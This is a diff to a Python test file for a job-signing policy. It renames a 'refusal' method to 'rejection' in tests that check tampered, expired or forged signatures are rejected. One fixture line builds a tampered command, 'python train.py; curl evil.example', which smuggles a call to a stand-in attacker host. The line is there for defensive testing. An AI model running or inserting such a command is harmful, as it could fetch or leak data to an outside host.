@@ -50,14 +50,14 @@ def asked(order: Order, signature: dict[str, Any] | None, continues: str = "") -
 def test_what_a_listed_key_signed_is_taken_and_nothing_else(tmp_path: Path, signer: str) -> None:
     policy = policy_of(tmp_path, f'require_signed = true\nsigners = ["{signer}"]')
     good = signed(ORDER)
-    assert policy.refusal(asked(ORDER, good), "") == ""
+    assert policy.rejection(asked(ORDER, good), "") == ""
     other = replace(ORDER, command="python train.py; curl evil.example")
-    assert "listed key" in policy.refusal(asked(other, good), "")
-    assert "listed key" in policy.refusal(asked(ORDER, {**good, "until": good["until"] + 1}), "")
-    assert "listed key" in policy.refusal(asked(ORDER, {**good, "signature": "nonsense"}), "")
-    assert "no signature" in policy.refusal(asked(ORDER, None), "")
-    assert "version" in policy.refusal(asked(ORDER, {**good, "version": 1}), "")
-    assert "listed key" in policy.refusal(asked(ORDER, good, continues="t7"), "")
+    assert "listed key" in policy.rejection(asked(other, good), "")
+    assert "listed key" in policy.rejection(asked(ORDER, {**good, "until": good["until"] + 1}), "")
+    assert "listed key" in policy.rejection(asked(ORDER, {**good, "signature": "nonsense"}), "")
+    assert "no signature" in policy.rejection(asked(ORDER, None), "")
+    assert "version" in policy.rejection(asked(ORDER, {**good, "version": 1}), "")
+    assert "listed key" in policy.rejection(asked(ORDER, good, continues="t7"), "")
 
 
 def test_a_signature_is_good_for_one_task_also_after_its_folder_was_removed(
@@ -88,17 +88,17 @@ def test_an_old_signature_and_a_key_that_is_not_listed_count_for_nothing(
     tmp_path: Path, signer: str, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     policy = policy_of(tmp_path, f'require_signed = true\nsigners = ["{signer}"]')
-    assert "expired" in policy.refusal(asked(ORDER, signed(ORDER, until=time.time() - 1)), "")
+    assert "expired" in policy.rejection(asked(ORDER, signed(ORDER, until=time.time() - 1)), "")
     monkeypatch.setenv("DIAMOND_HOME", str(tmp_path / "thief"))
     assert make_key() != signer
-    assert "listed key" in policy.refusal(asked(ORDER, signed(ORDER)), "")
+    assert "listed key" in policy.rejection(asked(ORDER, signed(ORDER)), "")
 
 
 def test_the_person_adds_no_key_to_a_site_that_lists_its_own(tmp_path: Path, signer: str) -> None:
     policy = policy_of(
         tmp_path, f'signers = ["{signer}"]', site="require_signed = true\nsigners = []"
     )
-    assert "no key is listed" in policy.refusal(asked(ORDER, signed(ORDER)), "")
+    assert "no key is listed" in policy.rejection(asked(ORDER, signed(ORDER)), "")
     assert policy.require_signed
 
 
@@ -110,7 +110,7 @@ def test_a_signature_covers_the_image_its_variables_and_its_path(
     image = Image(identity="sha256:" + "1" * 64, sha256="a" * 64, format="squashfs")
     order = replace(ORDER, image=image)
     good = signed(order)
-    assert policy.refusal(asked(order, good), "") == ""
+    assert policy.rejection(asked(order, good), "") == ""
     for sly in (
         replace(image, sha256="b" * 64),
         replace(image, sha256=""),
@@ -118,4 +118,4 @@ def test_a_signature_covers_the_image_its_variables_and_its_path(
         replace(image, path=["/tmp"]),
         replace(image, format="venv"),
     ):
-        assert "listed key" in policy.refusal(asked(replace(order, image=sly), good), "")
+        assert "listed key" in policy.rejection(asked(replace(order, image=sly), good), "")
